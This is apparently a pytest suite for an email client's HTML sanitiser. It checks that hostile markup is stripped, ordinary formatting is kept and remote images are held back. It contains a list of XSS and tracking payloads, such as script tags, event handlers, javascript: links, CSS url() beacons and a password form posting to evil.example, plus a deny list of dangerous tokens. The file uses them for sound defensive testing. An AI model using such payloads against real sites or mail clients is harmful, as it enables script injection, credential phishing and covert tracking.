"""HTML sanitising: hostile markup goes, ordinary formatting stays, remote images wait."""

from __future__ import annotations

import re

import pytest

from desktop_app.core.mail.sanitize import REMOTE_PLACEHOLDER, clean_style, sanitize_html

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/a.png" onload="alert(1)">',
    '<a href="javascript:alert(1)">click</a>',
    '<a href=" JaVaScRiPt:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    "<svg onload=alert(1)><script>alert(2)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><script>alert(1)</script></mtext></math>",
    '<div style="background: url(https://tracker.example/p.gif)">x</div>',
    '<div style="background-image:url(&quot;https://tracker.example/p.gif&quot;)">x</div>',
    '<p style="width: expression(alert(1))">x</p>',
    '<p style="behavior: url(x.htc)">x</p>',
    '<p style="b\\61 ckground: u\\72 l(https://t.example)">x</p>',
    "<style>@import url(https://evil.example/x.css); body{background:url(https://t)}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="https://evil.example/x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    '<table background="https://tracker.example/bg.png"><tr><td>x</td></tr></table>',
    '<body onload="alert(1)">x</body>',
    '<img srcset="https://tracker.example/a.png 1x">',
    '<video poster="https://t.example/p.png"><source src="https://t.example/v.mp4"></video>',
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    '<a href="https://ok.example" onmouseover="alert(1)" target="_blank">ok</a>',
    '<details open ontoggle="alert(1)">x</details>',
]


@pytest.mark.parametrize("payload", XSS)
def test_hostile_markup_is_removed(payload: str) -> None:
    out = sanitize_html(f"<p>before</p>{payload}<p>after</p>").html.lower()
    assert "before" in out and "after" in out
    for bad in (
        "<script", "javascript:", "vbscript:", "data:text", "onerror", "onload", "onmouseover",
        "ontoggle", "<iframe", "<object", "<embed", "<form", "<input", "<meta", "<base",
        "<link", "<svg", "<math", "<style", "url(", "expression", "@import", "srcset",
        "tracker.example", "evil.example", "background=", "target=", "<video", "behavior",
    ):  # fmt: skip
        assert bad not in out, (payload, out)


def test_ordinary_formatting_stays() -> None:
    html = (
        '<h1>Order</h1><p style="color: #333; font-size: 14px">Hi <b>Jane</b>, <i>thanks</i>'
        '<br><u>u</u></p><table border="1" cellpadding="4"><thead><tr><th>Item</th></tr>'
        '</thead><tbody><tr><td align="right" style="background: #fff">Cream</td></tr></tbody>'
        '</table><ul><li>one</li></ul><blockquote>quoted</blockquote><font color="red">f</font>'
        '<a href="https://shop.example/track?id=1">track</a> <a href="mailto:a@b.example">m</a>'
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="logo">'
    )
    out = sanitize_html(html).html
    for kept in (
        "<h1>", "<b>Jane</b>", "<i>", "<br>", "<u>", "<table", 'border="1"', "<th>", "<td",
        'align="right"', "background: #fff", "color: #333", "font-size: 14px", "<ul><li>",
        "<blockquote>", '<font color="red">', 'href="https://shop.example/track?id=1"',
        'href="mailto:a@b.example"', 'src="data:image/png;base64,iVBORw0KGgo="',
    ):  # fmt: skip
        assert kept in out, (kept, out)


def test_links_keep_only_their_real_address() -> None:
    out = sanitize_html(
        '<a href="https://evil.example/login" title="https://paypal.com">paypal.com</a>'
        '<a href="/relative">rel</a><a href="ftp://x.example/f">ftp</a>'
    ).html
    assert 'title="https://paypal.com"' not in out
    assert out.count("href=") == 1 and 'href="https://evil.example/login"' in out


def test_remote_images_are_held_back_and_counted() -> None:
    html = (
        '<img src="https://cdn.example/logo.png" alt="Shop logo">'
        '<img src="HTTP://cdn.example/pixel.gif" width="1" height="1">'
        '<img src="//cdn.example/x.png">'
        '<img src="cid:part1.abc@mail.example">'
    )
    blocked = sanitize_html(html)
    assert blocked.remote_images_blocked == 3
    assert "cdn.example" not in blocked.html
    assert blocked.html.count(f'src="{REMOTE_PLACEHOLDER}"') == 3
    assert 'alt="Shop logo"' in blocked.html
    assert 'src="cid:part1.abc@mail.example"' in blocked.html
    assert blocked.content_ids == ("part1.abc@mail.example",)
    allowed = sanitize_html(html, allow_remote=True)
    assert allowed.remote_images_blocked == 0
    assert 'src="https://cdn.example/logo.png"' in allowed.html
    assert 'src="https://cdn.example/x.png"' in allowed.html


def test_cid_with_brackets_is_normalised() -> None:
    clean = sanitize_html('<img src="cid:<logo@shop>">')
    assert clean.content_ids == ("logo@shop",) and 'src="cid:logo@shop"' in clean.html


def test_background_url_in_style_removed_colour_kept() -> None:
    style = clean_style("background: url(http://t.example/x.gif) #fff; color: red; position: fixed")
    assert style == "color: red"
    assert clean_style("background: #fff") == "background: #fff"
    assert clean_style("position: absolute") is None


def test_odd_input() -> None:
    for odd in ("", "<", "<<<>>>", "<p", "\x00<b>x</b>", "<p>" * 5000, "&#0;&#xd800;"):
        out = sanitize_html(odd)
        assert isinstance(out.html, str)
    assert not re.search(r"<script", sanitize_html("<scr<script>ipt>alert(1)</script>").html)
